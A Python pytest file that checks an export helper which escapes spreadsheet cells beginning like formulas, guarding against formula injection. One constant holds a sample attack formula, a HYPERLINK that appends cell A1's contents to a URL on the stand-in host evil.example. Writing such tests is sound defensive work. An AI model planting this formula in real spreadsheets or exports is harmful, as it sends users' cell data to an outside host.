"""Spreadsheet-formula escaping in exports: a cell that a spreadsheet would run comes out as text."""

import pytest

from apps.core.exports import escape_formula, escape_row

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.mark.parametrize("cell", [ATTACK, "+86 139", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_it_escapes_a_cell_that_starts_like_a_formula(cell):
    assert escape_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["王小明", "", "a=1", 5, -3, None, 1.5])
def test_it_leaves_other_cells_alone(cell):
    assert escape_formula(cell) == cell


def test_it_escapes_a_row():
    assert escape_row(["李*", ATTACK, 3]) == ["李*", "'" + ATTACK, 3]
